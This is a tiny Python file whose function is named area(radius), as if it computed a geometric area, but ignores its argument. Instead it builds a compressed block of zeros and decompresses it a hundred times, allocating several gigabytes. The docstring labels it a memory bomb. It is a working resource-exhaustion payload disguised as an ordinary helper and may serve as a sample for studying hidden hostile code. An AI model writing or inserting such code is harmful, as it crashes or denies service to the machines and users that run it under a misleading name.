"""memory: unpacks a few kilobytes that hold gigabytes"""

import zlib


def area(radius):
    bomb = b"".join([zlib.compress(bytes(64 << 20), 9)])
    return len(b"".join(zlib.decompress(bomb) for _ in range(100)))
